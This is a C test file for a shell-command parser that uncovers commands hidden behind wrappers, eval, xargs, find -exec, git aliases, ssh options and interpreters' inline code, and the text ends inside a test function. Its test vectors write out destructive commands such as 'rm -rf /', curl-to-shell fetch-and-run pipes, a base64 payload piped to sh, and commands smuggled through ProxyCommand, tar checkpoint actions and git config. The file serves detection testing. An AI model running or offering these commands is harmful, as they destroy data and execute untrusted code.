/*
 * tests/test_seethrough.c - the see-through side of the parser: wrappers
 * and their option grammars, shells' -c scripts and stdin, eval, xargs,
 * parallel, find -exec, fd -x, git aliases and config, ssh, watch, trap,
 * interpreters' inline code, depth limits.
 *
 * Most cases go end to end through locus_shell_parse(); a few build raw
 * commands by hand and call lp_emit() directly (producers, limits, a
 * missing pattern table).
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "locus/labels.h"
#include "locus/shell.h"
#include "parser/internal.h"
#include "parser/seethrough.h"

/* ---- helpers --------------------------------------------------------- */

static locus_shell_result *parse(const char *s)
{
	locus_shell_result *r = locus_shell_parse(s, strlen(s), NULL);
	ck_assert_ptr_nonnull(r);
	return r;
}

static void join_argv(const locus_shell_command *c, char *buf, size_t n)
{
	buf[0] = 0;
	for (size_t i = 0; i < c->argc; i++) {
		if (i)
			strncat(buf, " ", n - strlen(buf) - 1);
		strncat(buf, c->argv[i], n - strlen(buf) - 1);
	}
}

static void join_wrappers(const locus_shell_command *c, char *buf, size_t n)
{
	buf[0] = 0;
	for (size_t i = 0; i < c->nwrappers; i++) {
		if (i)
			strncat(buf, ",", n - strlen(buf) - 1);
		strncat(buf, c->wrappers[i], n - strlen(buf) - 1);
	}
}

/* A readable dump of the result for failure messages. */
static const char *dump(const locus_shell_result *r)
{
	static char out[8192];
	out[0] = 0;
	size_t n = locus_shell_result_count(r);
	for (size_t i = 0; i < n; i++) {
		const locus_shell_command *c = locus_shell_result_command(r, i);
		char a[512], w[128], line[800];
		join_argv(c, a, sizeof a);
		join_wrappers(c, w, sizeof w);
		snprintf(line, sizeof line,
		         "\n  [%zu] '%s' origin='%s' parent=%ld "
		         "wrappers={%s} depth=%u flags=%#x",
		         i, a, c->origin,
		         c->parent == LOCUS_SHELL_NO_PARENT ? -1L
		                                            : (long)c->parent,
		         w, c->depth, c->flags);
		strncat(out, line, sizeof out - strlen(out) - 1);
	}
	if (!locus_shell_result_parsed(r)) {
		strncat(out, "\n  unparsed: ", sizeof out - strlen(out) - 1);
		strncat(out, locus_shell_result_reason(r),
		        sizeof out - strlen(out) - 1);
	}
	return out;
}

static uint32_t flag_of(char c)
{
	switch (c) {
	case 'W': return LOCUS_CMD_WRAPPER;
	case 'Q': return LOCUS_CMD_QUERY_ONLY;
	case 'I': return LOCUS_CMD_INLINE_CODE;
	case 'D': return LOCUS_CMD_INLINE_DELETES;
	case 'S': return LOCUS_CMD_STDIN_SCRIPT;
	case 'B': return LOCUS_CMD_BACKGROUND;
	case 'A': return LOCUS_CMD_DYNAMIC_ARGS;
	default: ck_abort_msg("bad flag letter %c", c); return 0;
	}
}

/*
 * Does a command match "ARGV|ORIGIN|PARENT|WRAPPERS|FLAGS"?  Missing
 * trailing fields and "*" match anything.  PARENT is the parent's name
 * ("" for none).  FLAGS: letters that must be set, then after '!' letters
 * that must not be.
 */
static bool matches(const locus_shell_result *r, const locus_shell_command *c,
                    const char *spec)
{
	char buf[1024];
	snprintf(buf, sizeof buf, "%s", spec);
	char *field[5] = {0};
	char *p = buf;
	for (int i = 0; i < 5 && p; i++) {
		field[i] = p;
		p = strchr(p, '|');
		if (p)
			*p++ = 0;
	}
	char a[1024];
	join_argv(c, a, sizeof a);
	/* a one-word ARGV also matches the command's name */
	if (strcmp(field[0], a) &&
	    (strchr(field[0], ' ') || strcmp(field[0], c->name)))
		return false;
	if (field[1] && strcmp(field[1], "*") && strcmp(field[1], c->origin))
		return false;
	if (field[2] && strcmp(field[2], "*")) {
		const char *pn = "";
		if (c->parent != LOCUS_SHELL_NO_PARENT) {
			const locus_shell_command *pc =
			    locus_shell_result_command(r, c->parent);
			if (!pc)
				return false;
			pn = pc->name;
		}
		if (strcmp(field[2], pn))
			return false;
	}
	if (field[3] && strcmp(field[3], "*")) {
		char w[256];
		join_wrappers(c, w, sizeof w);
		if (strcmp(field[3], w))
			return false;
	}
	if (field[4]) {
		bool neg = false;
		for (const char *f = field[4]; *f; f++) {
			if (*f == '!') {
				neg = true;
				continue;
			}
			bool set = (c->flags & flag_of(*f)) != 0;
			if (set == neg)
				return false;
		}
	}
	return true;
}

static long find_cmd(const locus_shell_result *r, const char *spec)
{
	size_t n = locus_shell_result_count(r);
	for (size_t i = 0; i < n; i++)
		if (matches(r, locus_shell_result_command(r, i), spec))
			return (long)i;
	return -1;
}

/* ---- end-to-end vectors ---------------------------------------------- */

typedef struct vec {
	const char *line;
	int parsed;          /* 1 parsed, 0 unparsed, -1 either */
	const char *want[8]; /* "!SPEC" = no command matches SPEC */
} vec;

/* clang-format off */
static const vec vectors[] = {
	/* wrappers, from the original's test vectors */
	{ "sudo -u root rm -fr /srv", 1,
	  { "sudo -u root rm -fr /srv|||||W!Q", "rm -fr /srv||sudo|sudo" } },
	{ "sudo env A=1 rm x", 1,
	  { "env A=1 rm x||sudo|sudo|W", "rm x||env|sudo,env" } },
	{ "FOO=1 timeout -s KILL 5 reboot", 1,
	  { "reboot||timeout|timeout" } },
	{ "nice -n 10 nohup shutdown now", 1,
	  { "shutdown now||nohup|nice,nohup", "nohup shutdown now||nice|nice" } },
	{ "sudo -- reboot", 1, { "reboot||sudo|sudo" } },
	{ "env rm -rf build", 1, { "rm -rf build||env|env" } },
	{ "sudo", 1, { "sudo||||!W" } },
	{ "timeout 5", 1, { "timeout 5||||!W" } },
	/* clusters and attached values */
	{ "sudo -Eu root rm x", 1, { "rm x||sudo|sudo", "!root rm x" } },
	{ "sudo -uroot rm x", 1, { "rm x||sudo|sudo" } },
	{ "sudo --user=root -g wheel rm x", 1, { "rm x||sudo|sudo" } },
	{ "sudo -h otherhost rm x", 1, { "rm x||sudo|sudo" } },
	{ "sudo HOME=/x rm x", 1, { "rm x||sudo|sudo" } },
	/* query-only forms run nothing */
	{ "sudo -l rm x", 1, { "sudo -l rm x|||||Q", "!rm x" } },
	{ "sudo -v", 1, { "sudo -v|||||Q" } },
	{ "command -v rm", 1, { "command -v rm|||||Q", "!rm" } },
	{ "command -V rm", 1, { "command -V rm|||||Q", "!rm" } },
	{ "timeout --help", 1, { "timeout --help|||||Q" } },
	{ "env --version rm x", 1, { "!rm x" } },
	{ "doas -C /etc/doas.conf rm", 1, { "!rm" } },
	/* unknown options make the command unknowable */
	{ "sudo -Z rm x", 0, { "!rm x" } },
	{ "timeout --bogus 5 rm x", 0, { "!rm x" } },
	{ "nohup -x rm", 0, { "!rm" } },
	/* each wrapper of the spec */
	{ "command -p rm x", 1, { "rm x||command|command" } },
	{ "builtin cd /tmp", 1, { "cd /tmp||builtin|builtin" } },
	{ "exec -a name rm x", 1, { "rm x||exec|exec" } },
	{ "env -i PATH=/bin rm x", 1, { "rm x||env|env" } },
	{ "env -u HOME -C /tmp -- rm x", 1, { "rm x||env|env" } },
	{ "env - rm x", 1, { "rm x||env|env" } },
	{ "env -S 'rm -rf x' y", 1, { "rm -rf x y|wrapper -c|env" } },
	{ "doas -u root rm x", 1, { "rm x||doas|doas" } },
	{ "su -c 'rm -rf x' root", 1, { "rm -rf x|wrapper -c|su" } },
	{ "su - root -c reboot", 1, { "reboot|wrapper -c|su" } },
	/* a shell reading a stdin the line does not show: unparsed */
	{ "su root", 0, { "su root||||!W" } },
	{ "runuser -u bob -- rm x", 1, { "rm x||runuser|runuser" } },
	{ "run0 -u root rm x", 1, { "rm x||run0|run0" } },
	{ "run0 --unit=x --setenv=A=1 rm x", 1, { "rm x||run0|run0" } },
	{ "pkexec --user root rm x", 1, { "rm x||pkexec|pkexec" } },
	{ "time rm x", 1, { "rm x||time|time" } },
	{ "time -p rm x", 1, { "rm x||time|time" } },
	{ "nice -10 rm x", 1, { "rm x||nice|nice" } },
	{ "ionice -c 3 rm x", 1, { "rm x||ionice|ionice" } },
	{ "ionice -p 123", 1, { "ionice -p 123||||!W" } },
	{ "stdbuf -oL -e 0 rm x", 1, { "rm x||stdbuf|stdbuf" } },
	{ "timeout --signal=KILL -k 1 5 rm x", 1, { "rm x||timeout|timeout" } },
	{ "unbuffer -p rm x", 1, { "rm x||unbuffer|unbuffer" } },
	{ "chronic -e rm x", 1, { "rm x||chronic|chronic" } },
	{ "setsid -f rm x", 1, { "rm x||setsid|setsid" } },
	{ "flock -w 5 /tmp/l rm x", 1, { "rm x||flock|flock" } },
	{ "flock /tmp/l -c 'rm -rf y'", 1, { "rm -rf y|wrapper -c|flock" } },
	{ "taskset -c 0x1 rm x", 1, { "rm x||taskset|taskset" } },
	{ "taskset -p 0x1 123", 1, { "!123" } },
	{ "chroot /srv rm x", 1, { "rm x||chroot|chroot" } },
	{ "chroot --userspec=a:b /srv rm x", 1, { "rm x||chroot|chroot" } },
	{ "unshare -r --mount-proc -f rm x", 1, { "rm x||unshare|unshare" } },
	{ "nsenter -t 1 -m -u rm x", 1, { "rm x||nsenter|nsenter" } },
	{ "strace -f -o /tmp/t -e trace=file rm x", 1, { "rm x||strace|strace" } },
	{ "ltrace -o f rm x", 1, { "rm x||ltrace|ltrace" } },
	{ "systemd-run --user -p X=1 rm x", 1,
	  { "rm x||systemd-run|systemd-run" } },
	{ "firejail --net=none --private rm x", 1,
	  { "rm x||firejail|firejail" } },
	{ "bwrap --ro-bind / / --dev /dev --unshare-all rm x", 1,
	  { "rm x||bwrap|bwrap" } },
	{ "xvfb-run -a -s '-screen 0' rm x", 1, { "rm x||xvfb-run|xvfb-run" } },
	{ "caffeinate -i rm x", 1, { "rm x||caffeinate|caffeinate" } },
	{ "coproc rm x", 1, { "coproc rm x|||||B", "rm x||coproc|coproc|B" } },
	{ "busybox rm x", 1, { "rm x||busybox|busybox" } },
	{ "busybox sh -c reboot", 1,
	  { "sh -c reboot||busybox|busybox", "reboot|shell -c|sh" } },
	{ "script -q -c 'rm -rf x' /dev/null", 1,
	  { "rm -rf x|wrapper -c|script" } },
	{ "/usr/bin/sudo /bin/rm x", 1, { "/bin/rm x||sudo|sudo" } },
	{ "sudo sudo -u a env B=2 nice rm x", 1,
	  { "rm x||nice|sudo,sudo,env,nice" } },
	/* shells -c */
	{ "sh -c 'rm -rf x'", 1, { "rm -rf x|shell -c|sh" } },
	{ "sh -lc 'cd /; rm -rf x'", 1,
	  { "cd /|shell -c|sh", "rm -rf x|shell -c|sh" } },
	{ "bash -ec 'rm x'", 1, { "rm x|shell -c|bash" } },
	{ "bash -e -c 'rm x'", 1, { "rm x|shell -c|bash" } },
	{ "bash --rcfile f -c 'rm x'", 1, { "rm x|shell -c|bash", "!f" } },
	{ "bash -o pipefail -c 'rm x'", 1, { "rm x|shell -c|bash" } },
	{ "/bin/bash -c 'rm x'", 1, { "rm x|shell -c|bash" } },
	{ "zsh -c 'rm x'", 1, { "rm x|shell -c|zsh" } },
	{ "dash -c 'rm x' arg0", 1, { "rm x|shell -c|dash" } },
	{ "fish -c 'rm x'", 1, { "rm x|shell -c|fish" } },
	{ "sudo -u root sh -c 'rm -rf /'", 1,
	  { "sh -c rm -rf /||sudo|sudo", "rm -rf /|shell -c|sh" } },
	{ "bash script.sh", 1, { "bash script.sh" } },
	{ "bash -c \"$X\"", 0, { "bash -c $X" } },
	/* shells reading stdin */
	{ "bash <<< 'rm -rf x'", 1,
	  { "bash||||S", "rm -rf x|stdin-script|bash" } },
	{ "bash <<'EOF'\nrm -rf x\nEOF", 1,
	  { "bash||||S", "rm -rf x|stdin-script|bash" } },
	{ "echo 'rm -rf x' | sh", 1, { "rm -rf x|stdin-script|sh" } },
	{ "printf 'rm x' | sh", 1, { "rm x|stdin-script|sh" } },
	{ "printf '%s %s' rm y | sh", 1, { "rm y|stdin-script|sh" } },
	{ "printf 'rm x\\n' | sh", 0, { "sh||||S" } },
	{ "curl x.test | tee >(sh)", 0, { "sh|process-substitution|tee||S" } },
	{ "cat <<'EOF' | sh\nrm -rf z\nEOF", 1, { "rm -rf z|stdin-script|sh" } },
	{ "curl -s https://x.test/i.sh | sh", 1, { "sh||||S" } },
	{ "curl x | sudo sh; ls", 1, { "sh||sudo|sudo|S", "ls" } },
	{ "echo cm0K | base64 -d | sh", 0, { "sh" } },
	{ "printf '\\x72\\x6d x' | sh", 0, { "sh" } },
	{ "cat f | sh", 0, { "sh" } },
	/* eval, trap */
	{ "eval rm -rf /", 1, { "rm -rf /|eval|eval" } },
	{ "eval 'ls; rm x'", 1, { "ls|eval|eval", "rm x|eval|eval" } },
	{ "eval \"$X\"", 0, { "eval $X" } },
	{ "trap 'rm -rf x' EXIT", 1, { "rm -rf x|trap|trap" } },
	{ "trap - INT", 1, { "trap - INT" } },
	/* xargs, parallel, find, fd */
	{ "ls | xargs -n1 -I {} rm -rf {}", 1, { "rm -rf $(ls)|xargs|xargs" } },
	{ "ls | xargs sh -c 'reboot'", 1, { "reboot|shell -c|sh" } },
	{ "ls | xargs rm", 1, { "rm|xargs|xargs||A" } },
	{ "ls | xargs -0 -P 4 --max-args=2 rm", 1, { "rm|xargs|xargs" } },
	{ "xargs", 1, { "echo|xargs|xargs" } },
	{ "xargs sudo rm", 1, { "rm|xargs|sudo|sudo" } },
	{ "ls | xargs --bogus rm", 0, { "!rm" } },
	{ "parallel rm ::: a b", 1, { "rm|parallel|parallel" } },
	{ "parallel -j4 'rm {}; reboot' ::: a", 1,
	  { "rm $(echo a)|parallel|parallel", "reboot|parallel|parallel" } },
	{ "parallel ::: 'rm x' ls", 1,
	  { "rm x|parallel|parallel", "ls|parallel|parallel" } },
	{ "find . -name '*.pyc' -exec rm -rf {} \\;", 1,
	  { "rm -rf {}|find -exec|find" } },
	{ "find . -execdir shred {} +", 1, { "shred {}|find -exec|find" } },
	{ "find . -exec rm {} \\; -ok touch x \\;", 1,
	  { "rm {}|find -exec|find", "touch x|find -exec|find" } },
	{ "find . -exec sh -c 'rm -rf x' \\;", 1, { "rm -rf x|shell -c|sh" } },
	{ "find . -exec", 1, { "find . -exec" } },
	{ "fd -e pyc -x rm", 1, { "rm|fd -x|fd" } },
	{ "fd x -X rm {} \\;", 1, { "rm $(fd x)|fd -x|fd" } },
	/* git */
	{ "git -c alias.x='!rm -rf /' x", 1, { "rm -rf /|git alias|git" } },
	{ "git -c alias.co=checkout co -- .", 1,
	  { "git checkout -- .|git alias|git" } },
	{ "git -c alias.a=b -c alias.b='!reboot' a", 1,
	  { "reboot|git alias|git" } },
	{ "git -c alias.a=b -c alias.b='reset --hard' a HEAD", 1,
	  { "git reset --hard HEAD|git alias|git" } },
	{ "git -c alias.a=a a", 0, { "git -c alias.a=a a" } },
	{ "git -c core.pager='rm -rf x' log", 1, { "rm -rf x|git config|git" } },
	{ "git -c diff.foo.textconv='reboot' diff", 1,
	  { "reboot|git config|git" } },
	{ "git -c credential.helper='!rm y' push", 1, { "rm y|git config|git" } },
	{ "git -c core.fsmonitor=true status", 1, { "!true" } },
	{ "git -C /tmp --no-pager status", 1, { "git -C /tmp --no-pager status" } },
	{ "git --bogus status", 0, { "git --bogus status" } },
	{ "git-reset --hard", 1, { "git-reset --hard" } },
	/* ssh, watch */
	{ "ssh -p 22 -i key host rm -rf x", 1, { "rm -rf x|ssh|ssh" } },
	{ "ssh host 'cd /; rm x'", 1, { "cd /|ssh|ssh", "rm x|ssh|ssh" } },
	{ "ssh -N -L 1:a:2 host", 1, { "ssh -N -L 1:a:2 host" } },
	{ "ssh host -l bob reboot", 1, { "reboot|ssh|ssh" } },
	{ "watch -n 1 rm x", 1, { "rm x|watch|watch" } },
	{ "watch 'ls; rm x'", 1, { "rm x|watch|watch" } },
	{ "watch -x rm x", 1, { "rm x|watch|watch" } },
	/* interpreters */
	{ "python3 -c 'import os; os.system(\"rm -rf x\")'", 1,
	  { "python3 -c import os; os.system(\"rm -rf x\")||||I!D",
	    "rm -rf x|inline-code|python3" } },
	{ "python3.12 -c 'import shutil; shutil.rmtree(\"x\")'", 1,
	  { "python3.12 -c import shutil; shutil.rmtree(\"x\")||||ID" } },
	{ "python -c 'from shutil import rmtree; rmtree(\"x\")'", 1,
	  { "python -c from shutil import rmtree; rmtree(\"x\")||||ID" } },
	{ "python3 -c 'import subprocess; subprocess.run([\"rm\",\"-rf\",\"x\"])'",
	  1, { "rm -rf x|inline-code|python3" } },
	{ "python3 -c 'import subprocess as s; s.check_output(\"reboot\", "
	  "shell=True)'", 1, { "reboot|inline-code|python3" } },
	{ "python3 -c 'from pathlib import Path; Path(\"x\").unlink()'", 1,
	  { "python3||||ID" } },
	{ "perl -e 'system(\"reboot\")'", 1, { "reboot|inline-code|perl" } },
	{ "perl -e 'system \"rm\", \"-rf\", \"x\"'", 1,
	  { "rm -rf x|inline-code|perl" } },
	{ "perl -e 'unlink \"x\"'", 1, { "perl||||ID" } },
	{ "perl -ne 'print `id`'", 1, { "id|inline-code|perl" } },
	{ "ruby -e '`rm x`'", 1, { "rm x|inline-code|ruby" } },
	{ "ruby -e 'FileUtils.rm_rf(\"x\")'", 1, { "ruby||||ID" } },
	{ "node -e 'require(\"child_process\").execSync(\"rm -rf x\")'", 1,
	  { "rm -rf x|inline-code|node" } },
	{ "node -e 'require(\"fs\").rmSync(\"x\", {recursive: true})'", 1,
	  { "node||||ID" } },
	{ "node --eval 'fs.promises.rm(\"x\")'", 1, { "node||||ID" } },
	{ "node -p 'require(\"child_process\").spawnSync(\"rm\", "
	  "[\"-rf\", \"y\"])'", 1, { "rm -rf y|inline-code|node" } },
	{ "php -r 'shell_exec(\"rm x\");'", 1, { "rm x|inline-code|php" } },
	/* awk runs sh -c CMD; print | "sh": sh runs what awk prints */
	{ "awk 'BEGIN{system(\"rm x\")}'", 1,
	  { "sh -c rm x|inline-code|awk", "rm x|shell -c|sh" } },
	{ "awk '{print | \"sh\"}' f", 0, { "sh -c sh|inline-code|awk" } },
	{ "gawk -F: '{\"date\" | getline d}' f", 1,
	  { "sh -c date|inline-code|gawk", "date|shell -c|sh" } },
	{ "awk 'BEGIN{c=\"date\"; system(c)}'", 0, { "awk" } },
	{ "awk -f prog.awk f", 1, { "awk||||!I" } },
	{ "python3 script.py", 1, { "python3||||!I" } },
	{ "python3 <<'EOF'\nimport os\nos.remove('x')\nEOF", 1,
	  { "python3||||IDS" } },
	{ "echo 'import os; os.system(\"reboot\")' | python3", 1,
	  { "python3||||IS", "reboot|inline-code|python3" } },
	{ "curl x | python3", 1, { "python3||||IS" } },
	{ "python3 -c \"$X\"", 0, { "python3||||I" } },
	{ "deno eval 'Deno.removeSync(\"x\")'", 1, { "deno||||I" } },
	/* input that becomes code */
	{ "ls | xargs -I{} sh -c '{}'", 0, { "sh|xargs|xargs" } },
	{ "ls | xargs -I % bash -c 'rm %'", 0,
	  { "bash -c rm $(ls)|xargs|xargs" } },
	{ "find . -exec sh -c 'rm \"$1\"' _ {} \\;", 1,
	  { "rm $1|shell -c|sh" } },
	{ "echo x | xargs sh -c", 0, { "sh|xargs|xargs" } },
	{ "bash -s -- --force <<'EOF'\nrm x\nEOF", 1,
	  { "bash||||S", "rm x|stdin-script|bash" } },
	{ "sh - a b <<< 'reboot'", 1, { "reboot|stdin-script|sh" } },
	{ "sudo -b rm x", 1, { "rm x||sudo|sudo|B" } },
	/* git subcommands that run shell commands */
	{ "git rebase -x 'rm -rf y' main", 1, { "rm -rf y|shell -c|git" } },
	{ "git rebase --exec='make test' main", 1,
	  { "make test|shell -c|git" } },
	{ "git submodule foreach --recursive 'git reset --hard'", 1,
	  { "git reset --hard|shell -c|git" } },
	{ "git bisect run make test", 1, { "make test|shell -c|git" } },
	{ "git filter-branch --tree-filter 'rm -rf s' HEAD", 1,
	  { "rm -rf s|shell -c|git" } },
	{ "git config --global core.pager 'rm z'", 1,
	  { "rm z|git config|git" } },
	{ "git config alias.x '!reboot'", 1, { "reboot|git alias|git" } },
	{ "git -c alias.r='rebase -x reboot' r main", 1,
	  { "git rebase -x reboot main|git alias|git",
	    "reboot|shell -c|git" } },
	/* dynamic command names */
	{ "sudo $X", 0, { "sudo||||" } },
	{ "find . -exec $CMD {} \\;", 0, { "find" } },
	/* depth */
	{ "eval eval eval eval reboot", 1, { "reboot|eval|eval" } },
	{ "eval eval eval eval eval eval eval eval eval eval eval eval eval "
	  "eval eval eval eval eval eval eval reboot", 0, { "" } },

	/* group D: stdin scripts and files written then run */
	{ "bash /dev/stdin <<'EOF'\nreboot\nEOF", 1,
	  { "reboot|stdin-script|bash", "bash|||||S" } },
	{ "sh /proc/self/fd/0 <<< reboot", 1, { "reboot|stdin-script|sh" } },
	{ "sh -s < <(echo reboot)", 0, { "sh|||||S" } },
	{ "python3 < <(echo x)", 0, { "python3" } },
	{ "awk -f /dev/stdin <<< 'BEGIN{system(\"reboot\")}'", 1,
	  { "reboot|shell -c|sh" } },
	{ "python3 /dev/stdin <<< 'import os; os.system(\"reboot\")'", 1,
	  { "reboot|inline-code|python3" } },
	{ "awk -f prog.awk data", 1, { "!reboot" } },
	/* a file written then run: its text is parsed */
	{ "echo reboot > x.sh; sh x.sh", 1, { "reboot|written-script|sh" } },
	{ "echo reboot | tee x.sh; ./x.sh", 1, { "reboot|written-script|x.sh" } },
	{ "echo reboot | sed s/r/R/ > x.sh; ./x.sh", 0, { "./x.sh" } },
	{ "echo hi > out.txt; sh run.sh", 1, { "sh run.sh" } },
	{ "make -f - <<< $'all:\n\t@reboot'", 0,
	  { "reboot|stdin-script|make" } },
	{ "make -f Makefile all", 1, { "make -f Makefile all" } },
	{ "at now <<< reboot", 1, { "reboot|stdin-script|at", "at now|||||S" } },
	{ "echo reboot | batch", 1, { "reboot|stdin-script|batch" } },
	{ "at -l", 1, { "!reboot" } },
	{ "echo '* * * * * reboot' | crontab -", 0, { "crontab -" } },
	{ "crontab -l", 1, { "crontab -l" } },

	/* group E: new wrapper rows, script permutation, su -s */
	{ "toybox reboot", 1, { "reboot||toybox|toybox" } },
	{ "faketime now reboot", 1, { "reboot||faketime|faketime" } },
	{ "setpriv --reuid=0 reboot", 1, { "reboot||setpriv|setpriv" } },
	{ "prlimit --nofile=1 reboot", 1, { "reboot||prlimit|prlimit" } },
	{ "prlimit -p 1", 1, { "!reboot" } },
	{ "numactl -N 0 reboot", 1, { "reboot||numactl|numactl" } },
	{ "valgrind --tool=memcheck reboot", 1, { "reboot||valgrind|valgrind" } },
	{ "ssh-agent sh -c reboot", 1, { "reboot|shell -c|sh|", "sh -c reboot||ssh-agent|ssh-agent" } },
	{ "screen -dm reboot", 1, { "reboot||screen|screen" } },
	{ "sshpass -p pw reboot", 1, { "reboot||sshpass|sshpass" } },
	{ "daemonize reboot", 1, { "reboot||daemonize|daemonize|B" } },
	{ "entr -s reboot", 0, { "entr -s reboot" } },
	{ "script -q /dev/null -c reboot", 1, { "reboot|wrapper -c|script" } },
	{ "script /dev/null -qc reboot", 1, { "reboot|wrapper -c|script" } },
	{ "script out.log", 0, { "!out.log" } },
	{ "su -s /bin/rm root -- -rf /", 1, { "/bin/rm -rf /|wrapper -c|su" } },
	{ "su -s /bin/bash root -c reboot", 1, { "reboot|wrapper -c|su" } },
	{ "su -s $P root", 0, { "su" } },
	{ "sg root -c reboot", 1, { "reboot|wrapper -c|sg" } },
	{ "npm exec -- reboot", 1, { "reboot||npm|npm" } },
	{ "npm install x", 1, { "npm install x" } },
	{ "npx -y reboot", 1, { "reboot||npx|npx" } },
	{ "pnpm dlx reboot", 1, { "reboot||pnpm|pnpm" } },
	{ "uv run --with x reboot", 1, { "reboot||uv|uv" } },
	{ "poetry run reboot", 1, { "reboot||poetry|poetry" } },
	{ "direnv exec . reboot", 1, { "reboot||direnv|direnv" } },
	{ "docker run --rm -v /:/h alpine reboot", 1,
	  { "reboot||docker|docker" } },
	{ "docker exec -it c reboot", 1, { "reboot||docker|docker" } },
	{ "docker ps -a", 1, { "docker ps -a" } },
	{ "kubectl exec p -c main -- reboot", 1, { "reboot||kubectl|kubectl" } },

	/* group F: inline code */
	{ "python3 -c '__import__(\"os\").system(\"reboot\")'", 1,
	  { "reboot|inline-code|python3" } },
	{ "python3 -c 'import subprocess as s; s.call(\"reboot\", shell=True)'",
	  1, { "reboot|inline-code|python3" } },
	{ "python3 -c 'exec(\"import os; os.system(\\\"reboot\\\")\")'", 1,
	  { "reboot|inline-code|python3" } },
	{ "python3 -c 'import os; os.execvp(\"reboot\", [\"reboot\"])'", 1,
	  { "reboot|inline-code|python3" } },
	{ "python3 -c 'import os; os.spawnlp(os.P_WAIT, \"reboot\", "
	  "\"reboot\")'", 1, { "reboot|inline-code|python3" } },
	{ "perl -e 'open(F, \"|reboot\")'", 1, { "reboot|inline-code|perl" } },
	{ "perl -e 'open F, \"-|\", \"reboot\"'", 1,
	  { "reboot|inline-code|perl" } },
	{ "perl -e 'open(F, \"<\", \"x\")'", 1, { "!x" } },
	{ "ruby -e 'Kernel.spawn(\"reboot\")'", 1, { "reboot|inline-code|ruby" } },
	{ "deno eval 'Deno.removeSync(\"/\")'", 1, { "deno|||||ID" } },

	/* group G: program-valued options */
	{ "git grep -O'reboot' x", 1, { "reboot|option|git" } },
	{ "git grep --open=reboot x", 1, { "reboot|option|git" } },
	{ "git grep -e O x", 1, { "!O" } },
	{ "man -P reboot ls", 1, { "reboot|option|man" } },
	{ "tar --to-command=reboot -xf x.tar", 1, { "reboot|option|tar" } },
	{ "tar -xf x.tar --checkpoint=1 --checkpoint-action=exec=reboot", 1,
	  { "reboot|option|tar" } },
	{ "tar --checkpoint-action=dot -xf x.tar", 1, { "!dot" } },
	{ "rg --pre reboot x .", 1, { "reboot|option|rg" } },
	{ "sort --compress-program=reboot f", 1, { "reboot|option|sort" } },
	{ "ssh -o ProxyCommand='reboot' host", 1, { "reboot|option|ssh" } },
	{ "ssh -o StrictHostKeyChecking=no host ls", 1, { "!no" } },
	{ "scp -S reboot a b:c", 1, { "reboot|option|scp" } },
	{ "rsync -avze 'reboot' a b:c", 1, { "reboot|option|rsync" } },
	{ "git clone -u reboot x y", 1, { "reboot|option|git" } },
	{ "git fetch --upload-pack=reboot origin", 1, { "reboot|option|git" } },
	{ "git push --receive-pack=reboot origin", 1, { "reboot|option|git" } },
	{ "git fetch -u origin", 1, { "!origin" } },
	{ "nix-shell -p hello --run reboot", 1, { "reboot|option|nix-shell" } },
	/* Abbreviations as getopt_long / parse-options take
	   them (any prefix), tar's old-style cluster, the blanks ssh skips */
	{ "git grep --op=reboot x", 1, { "reboot|option|git" } },
	{ "sort --co=reboot f", 1, { "reboot|option|sort" } },
	{ "sort --c=reboot f", 1, { "reboot|option|sort" } },
	{ "git push --ex=reboot origin", 1, { "reboot|option|git" } },
	{ "git clone --u=reboot x y", 1, { "reboot|option|git" } },
	{ "git rebase --ex=reboot main", 1, { "reboot|shell -c|git" } },
	{ "git rebase -ix reboot main", 1, { "reboot|shell -c|git" } },
	{ "tar cIf reboot x.tar f", 1, { "reboot|option|tar" } },
	{ "tar cfI x.tar reboot f", 1, { "reboot|option|tar" } },
	{ "tar xf x.tar reboot", 1, { "!reboot" } },
	{ "ssh -o ' ProxyCommand=reboot' h", 1, { "reboot|option|ssh" } },
	{ "ssh -o '\tProxyCommand reboot' h", 1, { "reboot|option|ssh" } },
	{ "scp -o ' proxycommand = reboot' a h:b", 1, { "reboot|option|scp" } },
	{ "sftp -o '  ProxyCommand=reboot' h", 1, { "reboot|option|sftp" } },
	{ "ssh -o ' User=reboot' h", 1, { "!reboot" } },
	{ "git clone 'ext::sh -c reboot' x", 0, { "git" } },
	{ "git grep --open=$X x", 0, { "git" } },

	/* group I: dynamic subcommands */
	{ "git ${X:-push} --force", 0, { "git" } },
	{ "systemctl ${X:-poweroff}", 0, { "systemctl" } },
	{ "docker $CMD", 0, { "docker" } },
	/* an unquoted $IMAGE may split into `IMAGE CMD..` or be an option
	   taking the next word: where the command starts is unknown
	   (docs/tags.md, "Arguments computed at run time") */
	{ "docker run $IMAGE", 0, { "docker" } },
	{ "docker run img $X", 0, { "docker" } },
	{ "git -c \"${K:-alias.x}=!reboot\" x", 0, { "git" } },
};
/* clang-format on */

START_TEST(test_vectors)
{
	const vec *v = &vectors[_i];
	locus_shell_result *r = parse(v->line);
	if (v->parsed >= 0)
		ck_assert_msg(locus_shell_result_parsed(r) == (v->parsed == 1),
		              "line %s: parsed should be %d:%s", v->line,
		              v->parsed, dump(r));
	for (size_t k = 0; k < 8 && v->want[k]; k++) {
		const char *w = v->want[k];
		if (!*w)
			continue;
		if (w[0] == '!')
			ck_assert_msg(find_cmd(r, w + 1) < 0,
			              "line %s: unexpected %s:%s", v->line,
			              w + 1, dump(r));
		else
			ck_assert_msg(find_cmd(r, w) >= 0,
			              "line %s: missing %s:%s", v->line, w,
			              dump(r));
	}
	locus_shell_result_free(r);
}
END_TEST

/* ---- structure: parents, depth, assignments, indexes ------------------ */

START_TEST(test_wrapper_chain)
{
	locus_shell_result *r = parse("sudo env A=1 rm x");
	ck_assert_msg(locus_shell_result_count(r) == 3, "%s", dump(r));
	const locus_shell_command *s = locus_shell_result_command(r, 0);
	const locus_shell_command *e = locus_shell_result_command(r, 1);
	const locus_shell_command *m = locus_shell_result_command(r, 2);
	ck_assert_str_eq(s->name, "sudo");
	ck_assert_uint_eq(s->parent, LOCUS_SHELL_NO_PARENT);
	ck_assert_uint_eq(e->parent, 0);
	ck_assert_uint_eq(m->parent, 1);
	ck_assert_uint_eq(m->nwrappers, 2);
	ck_assert_str_eq(m->wrappers[0], "sudo");
	ck_assert_str_eq(m->wrappers[1], "env");
	ck_assert_uint_eq(m->nassignments, 1);
	ck_assert_str_eq(m->assignments[0], "A=1");
	ck_assert_uint_eq(m->argc, 2);
	/* words as written keep the wrappers */
	ck_assert_uint_eq(m->nwords, 5);
	ck_assert_str_eq(m->words[0], "sudo");
	ck_assert_str_eq(m->origin, "");
	ck_assert_uint_eq(m->depth, 0);
